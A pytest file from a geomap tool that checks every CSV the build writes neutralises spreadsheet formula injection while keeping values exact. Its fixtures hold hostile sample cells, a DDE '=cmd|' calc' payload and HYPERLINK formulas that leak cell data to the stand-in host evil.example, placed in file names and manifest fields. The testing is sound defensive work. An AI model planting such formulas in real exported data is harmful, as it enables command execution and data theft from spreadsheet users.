"""Security of the outputs: formula injection in CSV files, script injection in the pages,
killed runs and stale files, byte-identical PDFs."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from geomap.cli import main
from geomap.io import (
    FORMULA_START,
    read_csv_rows,
    spreadsheet_cell,
    spreadsheet_value,
    write_csv,
)

from .conftest import CORPUS

# -- helpers -------------------------------------------------------------------------------------

FORMULA_DOC = "=cmd|' calc'!A1"
FORMULA_DOC2 = "@SUM(1+1)"
FORMULA_OUTLET = '=HYPERLINK("http://evil.example")'
FORMULA_SENTENCE = '=HYPERLINK("http://evil.example/?x="&A1,"Clashes") Clashes erupted in Aleppo.'


def formula_corpus(folder: Path) -> Path:
    """Two seed articles whose file names, manifest fields and text start like formulas."""
    folder.mkdir(parents=True, exist_ok=True)
    seeds = sorted(CORPUS.glob("*.txt"))
    (folder / f"{FORMULA_DOC}.txt").write_text(seeds[0].read_text(encoding="utf-8"), "utf-8")
    (folder / f"{FORMULA_DOC2}.txt").write_text(
        seeds[3].read_text(encoding="utf-8")
        + f"\n{FORMULA_SENTENCE}\n-2+3 people were killed in Homs on Friday.\n",
        encoding="utf-8",
    )
    with open(folder / "manifest.csv", "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["file", "published", "dateline", "outlet", "wire"])
        w.writerow([f"{FORMULA_DOC}.txt", "2012-07-26", "+ALEPPO", FORMULA_OUTLET, "@AFP"])
        w.writerow([f"{FORMULA_DOC2}.txt", "2012-07-21", "-DAMASCUS", "-Reuters", "+x"])
    return folder


# -- 7. formula injection in CSV -----------------------------------------------------------------


def test_spreadsheet_cell_neutralises_strings_and_keeps_numbers() -> None:
    for bad in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "-", "=", "+cmd"):
        assert spreadsheet_cell(bad) == "'" + bad
        assert spreadsheet_value(spreadsheet_cell(bad)) == bad
    for number in ("-0.50000", "-3", "+4.5", "-1e-3", -0.5, -3, 0.0):
        assert spreadsheet_cell(number) == number
    for fine in ("Aleppo", "", "a=b", "it's", "'quoted'"):
        assert spreadsheet_cell(fine) == fine
    # a value that already starts with an apostrophe before a trigger reads back exactly
    for tricky in ("'=1+1", "''-x"):
        assert spreadsheet_value(spreadsheet_cell(tricky)) == tricky


def test_write_csv_neutralises_string_cells_only(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    write_csv(path, ("a", "lon", "lat"), [{"a": "=2+5", "lon": -0.5, "lat": "-0.50000"}])
    assert path.read_text(encoding="utf-8").splitlines()[1] == "'=2+5,-0.5,-0.50000"
    assert read_csv_rows(path) == [{"a": "=2+5", "lon": "-0.5", "lat": "-0.50000"}]


def _assert_no_formula_cells(path: Path) -> int:
    n = 0
    with open(path, encoding="utf-8", newline="") as fh:
        for row in csv.reader(fh):
            for cell in row:
                n += 1
                if cell.startswith(FORMULA_START):
                    float(cell)  # only a plain number may start with + or -
    return n


def test_every_csv_the_build_writes_is_safe_for_spreadsheets(tmp_path: Path) -> None:
    corpus = formula_corpus(tmp_path / "corpus")
    out = tmp_path / "out"
    assert main(["build", str(corpus), "--out", str(out), "--no-png"]) == 0
    csvs = sorted(out.rglob("*.csv"))
    names = {p.relative_to(out).as_posix() for p in csvs}
    assert {
        "mentions.csv",
        "documents.csv",
        "check/check.csv",
        "report/data/mentions.csv",
        "report/data/documents.csv",
    } <= names
    for path in csvs:
        assert _assert_no_formula_cells(path) > 0
    text = (out / "documents.csv").read_text(encoding="utf-8")
    assert "'=cmd|' calc'!A1" in text and "'@SUM(1+1)" in text and "'-Reuters" in text
    assert "'+ALEPPO" in text and "'@AFP" in text and "'=HYPERLINK" in text
    check = (out / "check" / "check.csv").read_text(encoding="utf-8")
    assert "\"'=HYPERLINK(" in check
    # read back by geomap: the exact values
    docs = {r["doc"]: r for r in read_csv_rows(out / "documents.csv")}
    assert set(docs) == {FORMULA_DOC, FORMULA_DOC2}
    assert docs[FORMULA_DOC]["outlet"] == FORMULA_OUTLET
    # GeoJSON and GeoPackage keep the values exactly
    fc = json.loads((out / "events.geojson").read_text(encoding="utf-8"))
    sources = [s for f in fc["features"] for s in f["properties"]["sources"]]
    assert {s["doc"] for s in sources} == {FORMULA_DOC, FORMULA_DOC2}
    assert FORMULA_OUTLET in {s["outlet"] for s in sources}
    pyogrio = pytest.importorskip("pyogrio")
    mentions = pyogrio.read_dataframe(out / "geomap.gpkg", layer="mentions")
    assert set(mentions["doc"]) == {FORMULA_DOC, FORMULA_DOC2}
    # the report found its documents through the neutralised documents.csv
    assert "2 articles" in (out / "report" / "report.html").read_text(encoding="utf-8")
